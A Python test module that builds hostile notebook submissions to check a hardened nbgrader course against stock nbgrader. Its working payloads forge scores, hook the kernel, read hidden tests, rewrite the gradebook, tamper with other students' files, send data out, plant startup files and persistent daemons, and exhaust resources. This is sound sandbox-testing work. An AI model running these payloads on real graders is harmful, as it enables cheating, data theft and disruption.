"""Submissions that attack the grader: what each does, and what stock nbgrader let it do.

`python -m tests.attacks` grades them all, by stock nbgrader and by this course, and prints the table. The attacks
are tame: each is bounded in time, memory, disk and processes, all run in a locked room (see `attack_room`), and
the network that they reach ends at listeners of the test.

An attack succeeds in one of the ways of `OUTCOMES`; against this course it must succeed in none.
"""

import base64
import io
import json
import os
import sys
import textwrap
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from tests import attack_room
from tests.attack_course import AFTER, BEFORE, BUNDLE, CANARIES, HONEST, AttackCourse, notebook_name

OUTCOMES = {
    "gains points": "has more points than it earned",
    "loses points": "has fewer points than it earned before it went wrong",
    "not graded": "has no score, so its student has no feedback",
    "reads secrets": "a canary stands in what it showed, wrote, or was given",
    "changes others": "another student's grade or files changed",
    "stops the batch": "the honest student after it was not graded in time",
    "leaves things": "a process, a socket or a file is left when grading has ended",
    "reaches out": "its message came out through the network, or it had power over a process of the grader",
    "takes much": "it had all the processes, files, memory or disk that it asked for",
    "bloats": "its graded notebook or feedback page is larger than ten megabytes",
    "runs script": "its script stands in the feedback page, ready to run",
}

PRELUDE = '''\
import contextlib, glob, os, re, signal, subprocess, sys, time
COURSE, LOOT, ME, MARK, PORT = {words}
os.environ["{mark}"] = MARK

def tell(*things):
    """Says each canary that stands in `things`, in the notebook and in a folder of the machine."""
    for thing in things:
        with contextlib.suppress(Exception):
            text = thing.decode("latin-1") if isinstance(thing, bytes) else str(thing)
            for word in sorted(set(re.findall("canary-[a-z]+-[0-9a-f]{{6}}", text))):
                print(word)
                with contextlib.suppress(OSError), open(f"{{LOOT}}/{{ME}}", "a") as file:
                    file.write(word + "\\n")

def tell_files(*patterns):
    """Says the canaries in all files with such names."""
    for path in (path for pattern in patterns for path in glob.glob(pattern, recursive=True, include_hidden=True)):
        if os.path.isfile(path) and os.path.getsize(path) < 20_000_000:
            with contextlib.suppress(OSError), open(path, "rb") as file:
                tell(file.read())

def took(number, asked):
    """Says that an attack got all that it asked for."""
    print(f"attack-took {{number}}", "attack-took-all" if number >= asked else "")
'''
POINTS_FORGED = '{"text/plain": "2.0"}'


class Kit:
    """What an attack is made with: the released notebook, and the folder in which it is handed in."""

    def __init__(self, course: AttackCourse, student: str, assignment: str) -> None:
        self.course, self.student, self.assignment = course, student, assignment
        unmarked = f"  # {CANARIES['solution']}"  # who is right by themselves has not seen the canary
        self.solutions = {name: text.replace(unmarked, "") for name, text in course.solutions.items()}
        self.notebook = deepcopy(course.release(assignment))
        self.folder = course.submitted(student, assignment)
        self.file = self.folder / f"{notebook_name(assignment)}.ipynb"
        self.other = course.submitted(BEFORE, assignment)

    def cell(self, grade_id: str) -> NotebookNode:
        """Returns a cell of the release."""
        return next(c for c in self.notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    def checks(self) -> list[NotebookNode]:
        """Returns the check cells."""
        return [c for c in self.notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]

    def put(self, grade_id: str, text: str) -> None:
        """Writes a solution cell; a task that the assignment does not have is left out."""
        if any(c.metadata.get("nbgrader", {}).get("grade_id") == grade_id for c in self.notebook.cells):
            self.cell(grade_id).source = self.solutions[grade_id] if text == RIGHT else textwrap.dedent(text).strip()

    def free(self, text: str, at: int | None = None, kind: str = "code") -> None:
        """Adds a cell of the student's own, at the end by default."""
        new = new_code_cell if kind == "code" else new_markdown_cell
        number = len(self.notebook.cells)
        self.notebook.cells.insert(number if at is None else at, new(textwrap.dedent(text), id=f"free-{number}"))

    def extra(self, name: str, content: str | bytes) -> None:
        """Hands in another file."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    def save(self) -> None:
        """Writes the notebook, with the attacks' helpers in a first cell, unless the attack wrote something itself."""
        if os.path.lexists(self.file):
            return
        words = (str(self.course.root), str(attack_room.LOOT), self.student, self.mark, attack_room.PORT)
        self.free(PRELUDE.format(words=words, mark=attack_room.MARK), at=0)
        self.folder.mkdir(parents=True, exist_ok=True)
        self.file.write_text(nbformat.writes(self.notebook), encoding="utf-8", errors="surrogatepass")

    @property
    def mark(self) -> str:
        return f"{attack_room.MARK}-{self.student}"


Build = Callable[[Kit], None]
RIGHT = "the right solution"


def shelf(put: str, get: str) -> str:
    """Returns a solution cell whose two methods hold one statement each."""
    return f"class Shelf:\n    def put(self, name, thing): {put}\n    def get(self, name): {get}"


@dataclass(frozen=True)
class Attack:
    """One submission, and how it succeeds against stock nbgrader: with this course's checks, and with plain asserts."""

    row: int  # of the table of threats
    name: str
    does: str
    build: Build
    stock: frozenset[str]
    plain: frozenset[str] | None  # None where it is not tried against plain asserts
    earned: float  # points that it deserves all the same
    alone: bool  # stock nbgrader must not grade others beside it

    @property
    def student(self) -> str:
        return f"m{self.row:02d}_{self.name}"


ATTACKS: list[Attack] = []


def attack(
    row: int,
    name: str,
    does: str,
    *,
    stock: str = "",
    plain: str | None = None,
    earned: float = 0.0,
    alone: bool = False,
) -> Callable[[Build], Build]:
    """Adds the decorated function as an attack; outcomes are separated by commas, "" is none."""

    def add(build: Build) -> Build:
        found = [_outcomes(stock), None if plain is None else _outcomes(plain)]
        ATTACKS.append(Attack(row, name, does, build, found[0] or frozenset(), found[1], earned, alone))
        return build

    return add


def code(
    row: int,
    name: str,
    does: str,
    center: str = "",
    *,
    shelf: str = "",
    solve: str = "",
    later: str = "",
    stock: str = "",
    plain: str | None = None,
    earned: float = 0.0,
    alone: bool = False,
) -> None:
    """Adds an attack that is written into solution cells, and into a cell of its own after the last check."""

    @attack(row, name, does, stock=stock, plain=plain, earned=earned, alone=alone)
    def build(kit: Kit) -> None:
        for grade_id, text in {"center": center, "shelf": shelf, "solve": solve}.items():
            if text:
                kit.put(grade_id, text)
        if later:
            kit.free(later)


def _outcomes(text: str) -> frozenset[str]:
    found = frozenset(filter(None, text.split(", ")))
    assert found <= OUTCOMES.keys(), text
    return found


# ---------------------------------------------------------------- 1 to 7: the notebook judges itself


@attack(1, "skip_tag", "tags every check cell `skip-execution`", stock="gains points", plain="gains points")
def _(kit: Kit) -> None:
    for cell in kit.checks():
        cell.metadata["tags"] = ["skip-execution"]


code(
    2,
    "displayhook",
    "shows its own result through `sys.displayhook` inside its function",
    """
    def center(x):
        sys.displayhook(2.0)
        return x
    """,
    stock="gains points",
    plain="gains points",
)
code(
    2,
    "formatter",
    "makes IPython show every result as `2.0`",
    f"""
    get_ipython().display_formatter.format = lambda *a, **k: ({POINTS_FORGED}, {{}})
    def center(x):
        return x
    """,
    stock="gains points",
    plain="",
)
code(
    2,
    "forged_report",
    "displays a report of the grader's own kind, with full marks",
    """
    from IPython.display import display
    def forge(task, points):
        report = {"task": task, "points": points, "max_points": points, "message": ""}
        report |= {"properties": [], "misconceptions": []}
        display({"text/plain": f"{points}", "application/vnd.autograder.report+json": report}, raw=True)
    def center(x):
        forge("center", 2.0)
        return x
    forge("center", 2.0)
    """,
    plain="",
)
code(
    3,
    "blanks_cells",
    "adds an input transformer that empties all later cells",
    "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
    stock="gains points",
    plain="gains points",
)
code(
    4,
    "drops_asserts",
    "adds an AST transformer that removes `assert` and turns the call of the check into a number",
    """
    import ast
    class Kind(ast.NodeTransformer):
        def visit_Assert(self, node):
            return None
        def visit_Call(self, node):
            name = getattr(node.func, "id", "")
            return ast.Constant(2.0) if name in ("check", "assert_allclose") else node
    get_ipython().ast_transformers.append(Kind())
    """,
    stock="gains points",
    plain="gains points",
)
code(
    5,
    "equals_everything",
    "answers with an object that equals everything, and rebinds `assert_allclose`",
    """
    assert_allclose = lambda *a, **k: None
    class Same:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = None
        def __getattr__(self, name): return Same()
        def __add__(self, other): return self
    def center(x):
        return Same()
    """,
    plain="gains points",
)
code(
    6,
    "swaps_code",
    "replaces the code of `assert_allclose` and of the grader's comparison",
    """
    import numpy.testing
    def nothing(*a, **k): return None
    numpy.testing.assert_allclose.__code__ = nothing.__code__
    with contextlib.suppress(Exception):
        import autograder.compare, autograder.diagnosis
        autograder.compare.compare.__code__ = nothing.__code__
    def center(x):
        return x
    """,
    stock="gains points",
    plain="gains points",
)
code(
    7,
    "run_code",
    "replaces the interpreter's `run_code` by one that runs nothing",
    """
    async def run_code(code, result=None, **k): return False
    get_ipython().run_code = run_code
    """,
    stock="gains points",
    plain="gains points",
)
code(
    7,
    "hides_errors",
    "swallows exceptions with a handler of its own, and mends the result of each cell after it ran",
    """
    ip = get_ipython()
    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
    ip.showtraceback = ip.showsyntaxerror = lambda *a, **k: None
    def mend(result):
        result.error_in_exec = result.error_before_exec = None
    ip.events.register("post_run_cell", mend)
    """,
    plain="gains points",
)
code(
    7,
    "own_run_cell",
    "replaces `run_cell` and its async twin by ones that always succeed with the result 2.0",
    """
    from IPython.core.interactiveshell import ExecutionResult
    ip = get_ipython()
    def run_cell(*a, **k):
        result = ExecutionResult(None)
        result.result = 2.0
        ip.displayhook(2.0)
        return result
    async def run_cell_async(*a, **k): return run_cell()
    ip.run_cell, ip.run_cell_async, ip.should_run_async = run_cell, run_cell_async, lambda *a, **k: True
    """,
    stock="gains points",
    plain="gains points",
)

# ---------------------------------------------------------------- 8: reading the hidden tests

code(
    8,
    "reads_notebook",
    "reads every notebook in its folder",
    "tell_files('*.ipynb', '.*', '**/*.ipynb', '../*/*.ipynb')",
    stock="reads secrets",
    plain="reads secrets",
)
code(
    8,
    "frames",
    "walks up the frames of whoever calls it",
    """
    def center(x):
        frame = sys._getframe()
        while frame:
            tell(frame.f_locals, frame.f_code.co_consts)
            tell(*[value for value in frame.f_globals.values() if isinstance(value, str | list)])
            frame = frame.f_back
        return x
    """,
    stock="reads secrets",
    plain="reads secrets",
)
code(
    8,
    "collector",
    "looks at every object that the garbage collector knows",
    """
    import gc
    def center(x):
        for thing in gc.get_objects():
            if type(thing) in (dict, list, tuple) and len(thing) < 5000:
                values = thing.values() if type(thing) is dict else thing
                tell(*[v for v in values if type(v) in (str, bytes)])
        return x
    """,
    stock="reads secrets",
    plain="reads secrets",
)
code(
    8,
    "history",
    "looks into `In`, the history, and the cache of lines",
    """
    import inspect, linecache
    def center(x):
        ip = get_ipython()
        tell(ip.user_ns.get("In"), ip.history_manager.input_hist_raw, linecache.cache, inspect.stack(context=50))
        return x
    """,
    stock="reads secrets",
    plain="reads secrets",
)
KEEPS = """
class Shelf:
    def put(self, name, thing):
        for place in ("/tmp", "/dev/shm", ".", os.path.expanduser("~"), "/var/tmp"):
            with contextlib.suppress(OSError), open(f"{place}/note", "a") as file:
                file.write(f"{name} {get_ipython().user_ns.get('In')}")
        return 0
    def get(self, name):
        return 0
"""
code(
    8,
    "note_to_later",
    "writes what it is asked into files, which a later cell shows",
    shelf=KEEPS,
    later="tell_files('/tmp/note', '/dev/shm/note', 'note', os.path.expanduser('~/note'), '/var/tmp/note')",
    stock="reads secrets",
    plain="",
)
code(
    8,
    "pipe_to_later",
    "writes what it is asked into a pipe made earlier, which a later cell reads",
    """
    out, into = os.pipe()
    os.set_blocking(out, False)
    """,
    shelf="""
    class Shelf:
        def put(self, name, thing):
            os.write(into, str(name).encode())
            return 0
        def get(self, name):
            return 0
    """,
    later="""
    time.sleep(1)
    with contextlib.suppress(BlockingIOError):
        tell(os.read(out, 10_000))
    """,
    stock="reads secrets",
    plain="",
)
code(
    8,
    "thread",
    "has a thread that watches all frames and shows later what it saw",
    """
    import threading
    seen = set()
    def watch():
        until = time.monotonic() + 20
        while time.monotonic() < until:
            for frame in list(sys._current_frames().values()):
                while frame:
                    with contextlib.suppress(Exception):
                        text = f"{list(frame.f_locals.values())} {frame.f_code.co_consts}"
                        seen.update(re.findall("canary-[a-z]+-[0-9a-f]{6}", text))
                    frame = frame.f_back
            if seen:
                tell(*seen)
            time.sleep(0.002)
    threading.Thread(target=watch, daemon=True).start()
    """,
    shelf="""
    class Shelf:
        def put(self, name, thing):
            time.sleep(0.3)
            return 0
        def get(self, name):
            return 0
    """,
    later="time.sleep(1); tell(*seen)",
    stock="reads secrets",
    plain="reads secrets",
)
code(
    8,
    "at_exit",
    "keeps what it is asked until the process ends, and shows it in `atexit` and `__del__`",
    """
    import atexit
    class Kept(list):
        def __del__(self): tell(*self)
    kept = Kept()
    atexit.register(lambda: tell(*kept))
    """,
    shelf="""
    class Shelf:
        def put(self, name, thing):
            kept.extend([name, str(get_ipython().user_ns.get("In"))])
            return 0
        def get(self, name):
            return 0
    """,
    later="tell(*kept)",
    stock="reads secrets",
    plain="",
)
code(
    8,
    "exceptions",
    "puts what it is asked into the message, the name, and the notes of exceptions",
    shelf="""
    class Shelf:
        def put(self, name, thing):
            error = type(str(name).replace("-", "_"), (Exception,), {"__module__": str(name)})(name)
            error.add_note(str(name))
            error.__name__ = name
            raise error from ValueError(name)
    """,
    plain="",
)
code(
    8,
    "prints",
    "prints, warns, logs and displays what it is asked",
    shelf="""
    import logging, warnings
    from IPython.display import display
    class Shelf:
        def put(self, name, thing):
            print(name); print(name, file=sys.stderr); print(name, file=sys.__stderr__)
            warnings.warn(str(name)); logging.warning(str(name)); display(str(name))
            os.write(1, f"{name}\\n".encode()); os.write(2, f"{name}\\n".encode())
            return 0
        def get(self, name):
            return 0
    """,
    stock="reads secrets",
    plain="",
)
code(
    8,
    "answers",
    "answers with what it is asked: as value, as the name of a type, as its printed form",
    shelf="""
    class Shelf:
        def put(self, name, thing):
            return type(str(name), (), {"__repr__": lambda self: str(name)})()
        def get(self, name):
            return [name, {name: name}, type(str(name), (dict,), {})()]
    """,
    plain="",
)
code(
    8,
    "printed_error",
    "raises an exception that looks at the frames of whoever prints it",
    """
    class Spy(Exception):
        def __str__(self):
            frame = sys._getframe()
            found = []
            while frame:
                found += [f"{k} {v}" for k, v in frame.f_locals.items() if k != "frame"] + [str(frame.f_code.co_consts)]
                frame = frame.f_back
            tell(*found)
            return " ".join(re.findall("canary-[a-z]+-[0-9a-f]{6}", " ".join(found)))
        __repr__ = __str__
    def center(x):
        raise Spy
    """,
    plain="",
)

# ---------------------------------------------------------------- 9 and 10: the gradebook, the source, other students

SCORES = """
import sqlite3
def everybody(path, score):
    with contextlib.suppress(Exception), contextlib.closing(sqlite3.connect(path, timeout=3)) as book:
        book.execute(f"UPDATE grade SET manual_score = {score}")
        book.commit()
"""
code(
    9,
    "sets_scores",
    "opens the gradebook and sets everybody's score",
    SCORES
    + """
for path in (f"{COURSE}/gradebook.db", "../../../gradebook.db"):
    if os.path.exists(path):
        everybody(path, 2)
""",
    alone=True,
    stock="gains points, changes others",
)
code(
    9,
    "deletes_gradebook",
    "deletes the gradebook",
    """
    for path in (f"{COURSE}/gradebook.db", "../../../gradebook.db"):
        with contextlib.suppress(OSError):
            os.remove(path)
    """,
    alone=True,
    stock="not graded, changes others, stops the batch",
)
code(
    9,
    "finds_databases",
    "looks for databases on the whole machine and reads them",
    """
    until = time.monotonic() + 4
    for top in (os.path.dirname(COURSE), os.getcwd(), "/home", "/root", "/srv", "/opt", "/var", "/data"):
        for folder, folders, names in os.walk(top):
            folders[:] = [f for f in folders if f not in ("site-packages", "node_modules")]
            tell_files(*(f"{folder}/{name}" for name in names if name.endswith((".db", ".sqlite"))))
            if time.monotonic() > until:
                break
    """,
    stock="reads secrets",
)
code(
    10,
    "reads_source",
    "reads the source notebooks of the course",
    "tell_files(f'{COURSE}/source/**', f'{COURSE}/modules/**', '../../../source/**', '/source/**', '../**/source/**')",
    stock="reads secrets",
)
code(
    10,
    "reads_others",
    "reads what other students handed in",
    "tell_files(f'{COURSE}/submitted/**', f'{COURSE}/autograded/**', '../../**', '../../../submitted/**')",
    stock="reads secrets",
)
code(
    10,
    "runs_the_solution",
    "takes the solutions out of the source notebook and runs them",
    """
    import json
    for path in glob.glob(f"{COURSE}/source/*/*.ipynb") + glob.glob("../../../source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
    """,
    stock="gains points",
)
code(
    10,
    "spoils_the_next",
    "overwrites the notebook of a student who is graded later",
    f"""
    for path in (path for top in (COURSE, "../../..") for path in glob.glob(f"{{top}}/submitted/{AFTER}/*/*.ipynb")):
        with contextlib.suppress(OSError):
            text = open(path).read()
            open(path, "w").write(text.replace("return", "raise KeyError #"))
    """,
    alone=True,
    stock="changes others",
)
code(
    10,
    "forges_feedback",
    "writes into graded notebooks and feedback of others",
    f"""
    for path in glob.glob(f"{{COURSE}}/autograded/{HONEST[2]}/*/*") + glob.glob("../../{HONEST[2]}/*/*"):
        with contextlib.suppress(OSError):
            text = open(path).read()
            os.chmod(path, 0o644)
            open(path, "w").write(text.replace("shelves", "attack-was-here"))
    """,
    alone=True,
    stock="changes others",
)

# ---------------------------------------------------------------- 11: network

code(
    11,
    "tcp",
    "connects to the machine that grades, and to a machine outside",
    """
    import socket
    for address in (("127.0.0.1", PORT), ("localhost", PORT), ("192.0.2.1", 80)):
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=1) as made:
            made.sendall(f"{ME} tcp".encode())
    """,
    stock="reaches out",
)
code(
    11,
    "udp_and_names",
    "sends a datagram, and asks for a name that holds what it has to say",
    """
    import socket
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(f"{ME} udp".encode(), ("127.0.0.1", PORT))
    for address in (("127.0.0.1", 53), ("192.0.2.1", 53)):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4said\\7invalid\\0\\0\\1\\0\\1", address)
    """,
    stock="reaches out",
)
code(
    11,
    "unix_sockets",
    "connects to every Unix socket that it finds, and to abstract ones",
    """
    import socket
    with contextlib.suppress(OSError):
        listed = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
    listed = [name.replace("@", "\\0", 1) for name in listed if name[0] in "@/"] + ["/tmp/attack.sock", "\\0attack"]
    for name in [*listed, *glob.glob("/run/*.sock"), *glob.glob("/tmp/*.sock")]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            made.settimeout(1)
            made.connect(name)
            made.sendall(f"{ME} unix".encode())
    """,
    stock="reaches out",
)

# ---------------------------------------------------------------- 12: links and other things that are no files


def _links(kit: Kit, name: str, to: Path | str) -> None:
    kit.folder.mkdir(parents=True, exist_ok=True)
    (kit.folder / name).symlink_to(to)


@attack(12, "link_to_other", "hands in a link to the notebook of another student", stock="gains points, reads secrets")
def _(kit: Kit) -> None:
    _links(kit, kit.file.name, kit.other / kit.file.name)


@attack(12, "link_to_source", "hands in a link to the source notebook", stock="gains points")
def _(kit: Kit) -> None:
    _links(kit, kit.file.name, kit.course.root / "source" / kit.assignment / kit.file.name)


@attack(12, "linked_files", "hands in links to the gradebook and to a file beside it", stock="reads secrets")
def _(kit: Kit) -> None:
    _links(kit, "data.csv", kit.course.root / "exam.txt")
    _links(kit, "more.csv", "../../../gradebook.db")
    kit.put("center", "tell_files('*.csv')")


@attack(12, "linked_folder", "hands in a link to the folder of the course")
def _(kit: Kit) -> None:
    _links(kit, "data", kit.course.root)
    kit.put("center", "tell_files('data/*', 'data/s*/**')")


@attack(
    12, "linked_submission", "is itself a link to the folder of another student", stock="gains points, reads secrets"
)
def _(kit: Kit) -> None:
    kit.folder.parent.mkdir(parents=True)
    kit.folder.symlink_to(kit.other)


@attack(12, "hard_link", "hands in a hard link to a file beside the gradebook", stock="reads secrets")
def _(kit: Kit) -> None:
    kit.folder.mkdir(parents=True)
    (kit.folder / "data.csv").hardlink_to(kit.course.root / "exam.txt")
    kit.put("center", "tell_files('*.csv')")


@attack(12, "device", "hands in a link to an endless device", alone=True, stock="not graded")
def _(kit: Kit) -> None:
    _links(kit, "data.csv", "/dev/zero")


@attack(
    12,
    "fifo_notebook",
    "hands in a named pipe in place of the notebook",
    alone=True,
    stock="not graded, stops the batch",
)
def _(kit: Kit) -> None:
    kit.folder.mkdir(parents=True)
    os.mkfifo(kit.file)


@attack(12, "fifo_file", "hands in a named pipe beside the notebook", alone=True, stock="not graded")
def _(kit: Kit) -> None:
    kit.folder.mkdir(parents=True)
    os.mkfifo(kit.folder / "data.csv")


@attack(12, "folder_notebook", "hands in a folder that is called like the notebook", stock="not graded")
def _(kit: Kit) -> None:
    kit.file.mkdir(parents=True)
    (kit.file / "inside.txt").write_text("a folder")


# ---------------------------------------------------------------- 13: modules beside the notebook

FAKE = f"""
class _Points(float):
    pass
class _Stock:
    def grader(self, **k):
        return lambda name: {{"center": 2.0, "shelf": 3.0, "solve": 4.0}}[name]
    def __getattr__(self, name):
        return lambda *a, **k: None
stock = _Stock()
def open_checks(*a, **k):
    return lambda name: None
def __getattr__(name):
    return _Stock()
# {POINTS_FORGED}
"""


@attack(13, "own_autograder", "ships an `autograder.py` whose checks are always content", stock="gains points")
def _(kit: Kit) -> None:
    kit.extra("autograder.py", FAKE)


FORGING = """
import os, sys
sys.modules.pop(__name__)
sys.path[:] = [place for place in sys.path if place not in ("", os.getcwd())]
__import__(__name__)  # the real one, and nobody notices
from IPython import get_ipython
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "2.0"}, {})
"""


@attack(13, "own_numpy", "ships a `numpy.py` that loads the real one and forges results", stock="gains points")
def _(kit: Kit) -> None:
    kit.extra("numpy.py", FORGING)


@attack(
    13,
    "own_torch",
    "ships a `torch.py`, packages of the kernel and of the standard library, all forging results",
    stock="gains points",
)
def _(kit: Kit) -> None:
    for name in ("torch.py", "autograder_/x.py", "json.py", "struct.py", "IPython.py", "numpy.linalg.py", "zlib.py"):
        kit.extra(name, FORGING)
    kit.put("center", "import torch, json, struct, zlib\ndef center(x): return x")


@attack(13, "startup_files", "ships start-up files of Python, IPython, Jupyter, nbgrader and pytest")
def _(kit: Kit) -> None:
    spy = f"import os\nopen('{attack_room.LOOT}/{kit.student}', 'a').write(os.environ.get('CANARY', ''))\n"
    names = ["sitecustomize.py", "usercustomize.py", "conftest.py", "ipython_config.py", "ipython_kernel_config.py"]
    names += ["nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", ".env", "pyvenv.cfg"]
    names += [".ipython/profile_default/startup/00.py", "profile_default/ipython_config.py", "attack.pth", "site.py"]
    for name in names:
        kit.extra(name, spy)


# ---------------------------------------------------------------- 14: what stays

code(
    14,
    "process",
    "leaves a process in a session of its own",
    "subprocess.Popen(['sh', '-c', 'setsid sleep 40 &'], start_new_session=True, env={**os.environ, 'NOTE': MARK})",
    alone=True,
    stock="leaves things",
)
code(
    14,
    "daemon",
    "leaves a daemon that ignores signals and listens on a port",
    """
    import socket
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            made = socket.socket()
            made.bind(("127.0.0.1", 0))
            made.listen()
            time.sleep(40)
        os._exit(0)
    """,
    alone=True,
    stock="leaves things",
)
code(
    14,
    "late_writer",
    "leaves a process that changes the gradebook when the others have been graded",
    f"""
program = '''
import contextlib, sqlite3, sys, time
for _ in range(60):
    time.sleep(0.5)
    with contextlib.suppress(Exception), contextlib.closing(sqlite3.connect(sys.argv[1], timeout=3)) as book:
        book.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
            "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = '{AFTER}')")
        book.commit()
'''
if os.fork() == 0:
    subprocess.Popen([sys.executable, "-c", program, f"{{COURSE}}/gradebook.db", MARK], start_new_session=True)
    os._exit(0)
    """,
    alone=True,
    stock="changes others, leaves things",
)
code(
    14,
    "startup_of_others",
    "writes start-up files that run in the kernel of the next student",
    """
    import site
    program = "import builtins\\nif 'ATTACK' not in __import__('os').environ: __import__('os')._exit(1)\\n"
    places = [os.path.expanduser("~/.ipython/profile_default/startup"), site.getusersitepackages()]
    places += [os.path.expanduser("~/.config"), os.path.expanduser("~/.jupyter"), "/tmp", "/var/tmp", "/dev/shm"]
    places += ["/var/spool/cron/crontabs", site.getsitepackages()[0], COURSE]
    for place in places:
        with contextlib.suppress(OSError):
            os.makedirs(place, exist_ok=True)
            with open(f"{place}/00-{MARK}.py", "w") as file:
                file.write(program)
    """,
    alone=True,
    stock="stops the batch, leaves things",
)

# ---------------------------------------------------------------- 15: taking what there is

code(
    15,
    "processes",
    "starts 300 processes",
    """
    count = 0
    with contextlib.suppress(OSError):
        for _ in range(300):
            if os.fork() == 0:
                with contextlib.suppress(BaseException):
                    time.sleep(20)
                os._exit(0)
            count += 1
    took(count, 300)
    """,
    alone=True,
    stock="takes much",
)
code(
    15,
    "threads",
    "starts 300 threads",
    """
    import threading
    count, done = 0, threading.Event()
    with contextlib.suppress(RuntimeError):
        for _ in range(300):
            threading.Thread(target=done.wait, args=(20,), daemon=True).start()
            count += 1
    took(count, 300)
    """,
    stock="takes much",
)
code(
    15,
    "memory",
    "takes three gigabytes of memory",
    """
    held = []
    with contextlib.suppress(MemoryError):
        for _ in range(30):
            held.append(bytearray(b"x") * 100_000_000)
        time.sleep(0.5)
    count = len(held)
    del held
    took(count, 30)
    """,
    stock="takes much",
)
code(
    15,
    "memory_of_children",
    "takes three gigabytes of memory in six processes",
    """
    out, into = os.pipe()
    for _ in range(6):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                with contextlib.suppress(BaseException):
                    held = bytearray(b"x") * 500_000_000
                    os.write(into, b"x")
                    time.sleep(3.5)
                os._exit(0)
    time.sleep(4)
    os.set_blocking(out, False)
    count = 0
    with contextlib.suppress(OSError):
        count = len(os.read(out, 6))
    took(count, 6)
    """,
    stock="takes much",
)
code(
    15,
    "disk",
    "writes 300 megabytes into each folder that it may write to",
    """
    count = 0
    for place in (".", "/tmp", "/dev/shm"):
        path = f"{place}/large"
        with contextlib.suppress(OSError), open(path, "wb") as file:
            for _ in range(300):
                file.write(bytes(1_000_000))
                file.flush()
            count += 1
        with contextlib.suppress(OSError):
            os.remove(path)
    took(count, 1)
    """,
    stock="takes much",
)
code(
    15,
    "open_files",
    "opens 5000 files at once",
    """
    held = []
    with contextlib.suppress(OSError):
        for _ in range(5000):
            held.append(os.open("/dev/null", os.O_RDONLY))
    for number in held:
        os.close(number)
    took(len(held), 5000)
    """,
    stock="takes much",
)

# ---------------------------------------------------------------- 16: output

code(
    16, "long_lines", "prints 15 megabytes in three lines", "for _ in range(3): print('x' * 5_000_000)", stock="bloats"
)
code(
    16,
    "endless_output",
    "prints for three seconds without a pause",
    """
    until, size = time.monotonic() + 3, 0
    while time.monotonic() < until and size < 60_000_000:
        print("x" * 10_000)
        size += 10_000
    """,
    stock="bloats",
)
code(
    16,
    "rubbish",
    "writes bytes that are no text, control characters, and escape sequences",
    """
    for number in (1, 2):
        os.write(number, bytes(range(256)) * 100)
    print("".join(map(chr, range(32))), "\\x1b[2J\\x1b]0;title\\x07\\x1b[8m", "\\u202e\\ufeff\\U000e0001", "\\0" * 100)
    """,
)
code(
    16,
    "half_characters",
    "prints and displays halves of characters, which no file can hold",
    """
    from IPython.display import display, Markdown
    display(Markdown("\\ud800"), {"text/plain": "\\udfff", "text/html": "\\ud800"}, raw=False)
    display({"text/plain": "\\udfff", "text/html": "\\ud800"}, raw=True)
    print("\\ud800")
    """,
)
code(
    16,
    "huge_image",
    "displays an image of 15 megabytes",
    """
    from IPython.display import Image, display
    display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(15_000_000), format="png"))
    """,
    stock="bloats",
)
code(
    16,
    "huge_repr",
    "has a result whose text is a hundred megabytes long",
    """
    class Long:
        def __repr__(self): return "x" * 100_000_000
    def center(x): return Long()
    Long()
    """,
    stock="bloats",
)
code(
    16,
    "endless_repr",
    "has a result whose text never ends",
    """
    class Endless:
        def __repr__(self):
            until = time.monotonic() + 50
            while time.monotonic() < until: pass
            return ""
    def center(x): return Endless()
    Endless()
    """,
)
code(
    16,
    "updates_display",
    "overwrites outputs of other cells through their display ids, and clears them",
    """
    from IPython.display import clear_output, display, update_display
    for number in range(20):
        display({"text/plain": "0"}, raw=True, display_id=str(number))
    def center(x):
        for number in range(20):
            update_display({"text/plain": "2.0"}, raw=True, display_id=str(number))
        clear_output()
        display({"text/plain": "2.0"}, raw=True, display_id="0")
        return x
    """,
)

# ---------------------------------------------------------------- 17 to 20: the notebook's form


@attack(17, "copied_cells", "holds every cell twice", alone=True, stock="not graded, stops the batch")
def _(kit: Kit) -> None:
    for number, cell in enumerate(deepcopy(kit.notebook.cells)):
        cell.id = f"copy-{number}"
        kit.notebook.cells.append(cell)


@attack(
    17, "newer_schema", "says that its metadata is of a later schema", alone=True, stock="not graded, stops the batch"
)
def _(kit: Kit) -> None:
    for cell in kit.notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 99


@attack(17, "older_schema", "says that its metadata is of schema 0", alone=True, stock="not graded, stops the batch")
def _(kit: Kit) -> None:
    for cell in kit.checks():
        cell.metadata.nbgrader.schema_version = 0


@attack(17, "odd_metadata", "has metadata of other types than nbgrader expects", stock="not graded")
def _(kit: Kit) -> None:
    values: list[object] = [["a", "list"], "text", 7, {"grade_id": {"a": 1}}, {"grade_id": None, "grade": "no"}]
    for cell, value in zip(kit.notebook.cells, values, strict=False):
        cell.metadata["nbgrader"] = value
